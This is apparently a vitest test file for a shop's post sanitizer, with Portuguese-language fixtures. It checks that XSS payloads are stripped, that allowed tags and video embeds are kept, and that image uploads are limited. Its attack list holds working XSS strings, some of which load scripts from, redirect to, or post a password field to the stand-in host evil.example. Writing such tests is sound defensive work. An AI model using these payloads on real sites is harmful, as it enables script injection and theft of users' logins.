import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { buildPost, buildPostForm } from '../support/build-post.ts';
import { type Client, openShop, type TestShop } from '../support/harness.ts';
import { photo, photoOfBytes, sendForm } from '../support/send-form.ts';

let shop: TestShop;
let admin: Client & { token: string };
let categoryId: number;
beforeAll(async () => {
  shop = await openShop();
  admin = await shop.signedIn('admin');
  categoryId = (await admin.post('storeCat', { name: 'Dicas' })).body.category.id;
});
afterAll(() => shop.close());

/** A visitor's view of a post that was saved with this text. */
async function saved(content: string): Promise<string> {
  const { id } = await buildPost(admin, categoryId, { content });
  return (await shop.visitor().get(`noticia/${id}`)).body.post.content;
}

const picture = `/files/${'a'.repeat(32)}.webp`;
const player = 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ';

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  `<img src="${picture}" onerror="alert(1)" style="position:fixed">`,
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="/files/../api/logout">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
  `<iframe src="${player}" onload="alert(1)" srcdoc="<b>x" allow="camera; microphone" name="x"></iframe>`,
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)" onclick="alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x" style="x:expression(alert(1))">x</a>',
  '<form action="https://evil.example"><input name="senha"><button formaction="javascript:alert(1)">x</button></form>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<style>body{display:none}</style><link rel="stylesheet" href="//evil.example">',
  '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<details open ontoggle=alert(1)>x</details><video src=x onerror=alert(1)></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><xmp><img src=x onerror=alert(1)></xmp>',
  '<p id="root" class="x" onmouseover="alert(1)">x</p>',
  '<<script>alert(1)//<</script>',
  '<!--><img src=x onerror=alert(1)>-->',
];

/** Every tag that may be in a text, whole; what is left of a text without them holds no tag at all. */
const knownTags = new RegExp(
  [
    `</?(?:p|strong|b|em|i|u|s|ul|ol|li|h2|h3|h4|blockquote)>|</a>|</iframe>|<(?:br|hr) />`,
    `<a(?: href="(?:https?:|/|#)[^"<>]*")?(?: rel="noopener noreferrer nofollow" target="_blank")?>`,
    `<img src="${picture}" alt="[^"<>]*" loading="lazy" />`,
    `<iframe src="${player}" title="Vídeo" loading="lazy" allow="[a-z-]+(?:; [a-z-]+)*">`,
  ].join('|'),
  'g',
);
const unknownTagsOf = (html: string) => html.replace(knownTags, '').match(/<[^>]*>?/g) ?? [];

describe('the text of a post', () => {
  test.each(attacks)('never runs %s', async (attack) => {
    const html = await saved(`<p>Antes</p>${attack}<p>Depois</p>`);
    expect(unknownTagsOf(html)).toEqual([]);
    expect(html).not.toMatch(/allow="[^"]*(?:camera|microphone)/);
    const { post } = (
      await admin.post(
        'postCreate',
        buildPostForm(categoryId, { title: attack.slice(0, 160), resume: attack, tag: attack, key_words: attack }),
      )
    ).body;
    expect(post.slug).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);
  });

  test('keeps headings, lists, quotes, own pictures and links', async () => {
    const kept =
      '<h2>Título</h2><h3>Parte</h3><h4>Detalhe</h4><ul><li>um</li></ul><ol><li>dois</li></ol>' +
      `<blockquote><p>dito</p></blockquote><hr /><p><a href="/quero-vender">Venda aqui</a></p>`;
    expect(await saved(kept)).toBe(kept);
    expect(await saved('<h1>Um só</h1>')).toBe('<h2>Um só</h2>');
    expect(await saved(`<img src="${picture}" alt="Um &quot;iPhone&quot;" width="9">`)).toBe(
      `<img src="${picture}" alt="Um &quot;iPhone&quot;" loading="lazy" />`,
    );
    expect(await saved('<a href="https://exemplo.com.br">fora</a>')).toBe(
      '<a href="https://exemplo.com.br" rel="noopener noreferrer nofollow" target="_blank">fora</a>',
    );
    for (const address of ['//exemplo.com.br', '/\\exemplo.com.br', '/&#9;/exemplo.com.br']) {
      expect(await saved(`<a href="${address}">fora</a>`)).toContain('nofollow');
    }
  });

  test('keeps a video of a known player, in a frame made anew', async () => {
    const frame = await saved('<iframe src="https://www.youtube.com/watch?v=dQw4w9WgXcQ" width="1"></iframe>');
    expect(frame).toContain(`<iframe src="${player}" title="Vídeo" loading="lazy"`);
    expect(frame).not.toContain('width');
    expect(await saved('<iframe src="https://player.vimeo.com/video/76979871"></iframe>')).toContain(
      'player.vimeo.com',
    );
  });

  test('of which nothing can be seen is blank', async () => {
    expect(await saved('<p> </p><p><br></p>')).toBe('');
    expect(await saved(`<p><img src="${picture}"></p>`)).toContain(picture);
  });

  test('leaves the text of products as it was: no pictures, no frames', async () => {
    const description = `<p>ok</p><img src="${picture}"><iframe src="${player}"></iframe>`;
    const { body } = await admin.post('produtoStore', { SKU: 'X', name: 'x', price: 1, stock: 1, description });
    expect(body.product.details.description).toBe('<p>ok</p>');
  });
});

describe('a picture for the text', () => {
  const upload = async (bytes: Buffer | undefined, token = admin.token) =>
    sendForm(shop, token, 'upload-image', bytes ? [['image', bytes]] : []);

  test('is stored and can be seen by everybody', async () => {
    const { status, body } = await upload(await photo());
    expect(status).toBe(200);
    expect((await shop.app.http.inject(body.url)).headers['content-type']).toBe('image/webp');
    expect(await saved(`<img src="${body.url}">`)).toContain(body.url);
    expect((await upload(await photoOfBytes(2_097_152))).status).toBe(200);
  });

  test('that is missing, no picture or too large is refused at its field', async () => {
    const invalid = { image: ['Envie uma imagem JPEG, PNG, WebP ou AVIF.'] };
    expect((await upload(undefined)).body.errors).toEqual(invalid);
    expect((await upload(Buffer.from('nota.txt'))).body.errors).toEqual(invalid);
    expect((await upload(await photoOfBytes(2_097_153))).body.errors).toEqual({
      image: ['O arquivo deve ter no máximo 2 MB.'],
    });
  });

  test('is stored for admins alone', async () => {
    const user = await shop.signedIn('user');
    expect((await upload(await photo(), user.token)).status).toBe(403);
    expect((await upload(await photo(), 'nobody')).status).toBe(401);
  });
});
